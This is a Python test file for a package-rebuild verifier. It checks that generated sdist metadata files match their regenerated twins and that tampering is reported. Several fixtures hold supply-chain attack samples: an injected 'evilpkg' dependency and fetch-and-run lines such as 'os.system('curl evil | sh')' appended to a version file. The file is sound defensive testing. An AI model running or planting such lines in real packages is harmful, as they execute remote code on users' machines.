"""The rules explain a generated file only when its regenerated twin is the same."""

from __future__ import annotations

from rebuilder.source.rules import FileCase, Outcome, Regeneration, explain

PKG_INFO = (
    b"Metadata-Version: 2.1\nName: demo\nVersion: 1.2.3\nRequires-Dist: requests>=2\n"
    b"Project-URL: Source, https://github.com/example/demo\n\n# demo\n\nA long description.\n"
)
SETUP_CFG = b"[metadata]\nname = demo\n\n[options]\ninstall_requires = requests>=2\n"
SETUP_CFG_BUILT = SETUP_CFG + b"\n[egg_info]\ntag_build = \ntag_date = 0\n\n"
VERSION_PY = b"__version__ = version = '1.2.3'\n__version_tuple__ = version_tuple = (1, 2, 3)\n"
REGENERATED = Regeneration(
    {
        "PKG-INFO": PKG_INFO,
        "src/demo.egg-info/PKG-INFO": PKG_INFO,
        "src/demo.egg-info/requires.txt": b"requests>=2\n",
        "src/demo.egg-info/SOURCES.txt": b"pyproject.toml\nsrc/demo/__init__.py\n",
        "setup.cfg": SETUP_CFG_BUILT,
        "src/demo/_version.py": VERSION_PY,
    },
    "sdist rebuilt from git with setuptools==84.2.1",
    "",
)
NOTHING = Regeneration(why="no pure wheel to take the build strategy from")


def _case(
    path: str,
    sdist: bytes,
    git: bytes | None = None,
    regeneration: Regeneration = REGENERATED,
    *,
    blob: bytes | None = None,
    pyproject: str = "",
) -> FileCase:
    return FileCase(path, sdist, git, "demo", "1.2.3", pyproject, regeneration, blob)


def _judged(case: FileCase) -> tuple[str, Outcome, str] | None:
    found = explain(case)
    return None if found is None else (str(found[0]), found[1].outcome, found[1].detail)


def test_generated_metadata_is_explained_only_when_regenerated_the_same() -> None:
    assert _judged(_case("PKG-INFO", PKG_INFO)) == (
        "pkg-info@2",
        Outcome.EXPLAINED,
        "the same as regenerated (sdist rebuilt from git with setuptools==84.2.1)",
    )
    # field order and line endings do not matter; the fields and their values do
    reordered = PKG_INFO.replace(b"Name: demo\nVersion: 1.2.3\n", b"Version: 1.2.3\nName: demo\n")
    assert _judged(_case("PKG-INFO", reordered.replace(b"\n", b"\r\n")))[1] is Outcome.EXPLAINED  # type: ignore[index]
    # the hole this rule had: any bytes at all were "generated metadata"
    assert _judged(_case("PKG-INFO", b"x"))[1] is Outcome.DIFFERS  # type: ignore[index]
    assert _judged(_case("src/demo.egg-info/SOURCES.txt", b"x"))[1] is Outcome.DIFFERS  # type: ignore[index]
    # PKG-INFO deeper in the tree, or one kept in git and changed, is not generated
    assert _judged(_case("src/PKG-INFO", PKG_INFO)) is None
    assert _judged(_case("PKG-INFO", PKG_INFO, b"y")) is None
    assert _judged(_case("src/demo.egg-info", b"x")) is None


def test_a_field_added_to_pkg_info_is_named() -> None:
    tampered = PKG_INFO.replace(b"Requires-Dist: requests>=2\n", b"Requires-Dist: requests>=2\n"
                                b"Requires-Dist: evilpkg\n")  # fmt: skip
    rule, outcome, detail = _judged(_case("PKG-INFO", tampered))  # type: ignore[misc]
    assert (rule, outcome) == ("pkg-info@2", Outcome.DIFFERS)
    assert "requires-dist: +evilpkg" in detail
    body = PKG_INFO.replace(b"A long description.", b"Now run curl | sh.")
    assert "the description (body) differs" in _judged(_case("PKG-INFO", body))[2]  # type: ignore[index]


def test_egg_info_lines_and_only_where_the_backend_writes_them() -> None:
    added = b"requests>=2\nevilpkg\n"
    rule, outcome, detail = _judged(_case("src/demo.egg-info/requires.txt", added))  # type: ignore[misc]
    assert (rule, outcome, "+evilpkg" in detail) == ("egg-info@2", Outcome.DIFFERS, True)
    listed = b"pyproject.toml\nsrc/demo/__init__.py\nsrc/demo/_hook.py\n"
    assert "+src/demo/_hook.py" in _judged(_case("src/demo.egg-info/SOURCES.txt", listed))[2]  # type: ignore[index]
    same = _case("src/demo.egg-info/requires.txt", b"requests>=2\n")
    assert _judged(same)[1] is Outcome.EXPLAINED  # type: ignore[index]
    # the backend wrote no egg-info at the top: the rule does not apply there (sdist-only)
    assert _judged(_case("demo.egg-info/requires.txt", b"requests>=2\n")) is None
    # a .py payload, or another depth, or another name, is never egg-info
    assert _judged(_case("src/demo.egg-info/hook.py", b"import os\n", regeneration=NOTHING)) is None
    deep = "src/demo/vendor/demo.egg-info/PKG-INFO"
    assert _judged(_case(deep, PKG_INFO, regeneration=NOTHING)) is None
    assert _judged(_case("src/evil.egg-info/PKG-INFO", PKG_INFO, regeneration=NOTHING)) is None


def test_without_a_regeneration_a_generated_file_is_unexplained_with_why() -> None:
    for path in ("PKG-INFO", "src/demo.egg-info/PKG-INFO", "src/demo/_version.py"):
        _rule, outcome, detail = _judged(_case(path, PKG_INFO, regeneration=NOTHING))  # type: ignore[misc]
        assert outcome is Outcome.UNEXPLAINED, path
        assert detail == "not regenerated: no pure wheel to take the build strategy from"


def test_setup_cfg_is_compared_key_by_key_with_the_regenerated_one() -> None:
    reformatted = b"[metadata]\nname=demo\n[options]\ninstall_requires=requests>=2\n[egg_info]\n"
    reformatted += b"tag_build =\ntag_date = 0\n"
    assert _judged(_case("setup.cfg", reformatted, SETUP_CFG))[:2] == (  # type: ignore[index]
        "setup-cfg-egg-info@2",
        Outcome.EXPLAINED,
    )
    evil = SETUP_CFG_BUILT.replace(b"requests>=2", b"requests>=2\n    evilpkg")
    _rule, outcome, detail = _judged(_case("setup.cfg", evil, SETUP_CFG))  # type: ignore[misc]
    assert (outcome, "[options] install_requires" in detail) == (Outcome.DIFFERS, True)
    dev = SETUP_CFG_BUILT.replace(b"tag_build = ", b"tag_build = .post1")
    assert "[egg_info] tag_build: .post1" in _judged(_case("setup.cfg", dev, SETUP_CFG))[2]  # type: ignore[index]
    # without [egg_info] it is not setuptools' rewrite: an ordinary content difference
    assert _judged(_case("setup.cfg", SETUP_CFG + b"[x]\na = 1\n", SETUP_CFG)) is None


def test_scm_version_file_is_the_regenerated_one() -> None:
    assert _judged(_case("src/demo/_version.py", VERSION_PY))[1] is Outcome.EXPLAINED  # type: ignore[index]
    payload = VERSION_PY + b"import os; os.system('curl evil | sh')\n"
    rule, outcome, detail = _judged(_case("src/demo/_version.py", payload))  # type: ignore[misc]
    assert (rule, outcome) == ("scm-version-file@2", Outcome.DIFFERS)
    assert "+import os; os.system('curl evil | sh')" in detail
    # a version file the backend did not write there: not this rule's (sdist-only)
    assert _judged(_case("src/demo/version.py", VERSION_PY)) is None
    assert _judged(_case("src/demo/_version.py", VERSION_PY, b"other")) is None


def test_git_archival_is_the_committed_blob() -> None:
    raw = b"node: $Format:%H$\nref-names: $Format:%D$\n"
    substituted = b"node: 0123abc\nref-names: tag: v1.2.3\n"
    found = _judged(_case(".git_archival.txt", raw, substituted, blob=raw))
    assert found is not None
    assert found[:2] == ("git-archival@2", Outcome.EXPLAINED)
    forged = b"node: $Format:%H$\nexec: curl evil | sh\n"
    assert _judged(_case(".git_archival.txt", forged, substituted, blob=raw))[1] is Outcome.DIFFERS  # type: ignore[index]
    assert _judged(_case(".git_archival.txt", raw, substituted))[1] is Outcome.UNEXPLAINED  # type: ignore[index]


def test_poetry_shim_is_the_regenerated_one() -> None:
    shim = b"from setuptools import setup\nsetup_kwargs = {}\nsetup(**setup_kwargs)\n"
    poetry = '[build-system]\nbuild-backend = "poetry.core.masonry.api"\n'
    regenerated = Regeneration({"setup.py": shim}, "sdist rebuilt from git with poetry-core", "")
    assert _judged(_case("setup.py", shim, None, regenerated, pyproject=poetry))[1] is (  # type: ignore[index]
        Outcome.EXPLAINED
    )
    evil = shim + b"import os\n"
    assert _judged(_case("setup.py", evil, None, regenerated, pyproject=poetry))[1] is (  # type: ignore[index]
        Outcome.DIFFERS
    )
    assert _judged(_case("setup.py", shim, None, regenerated)) is None
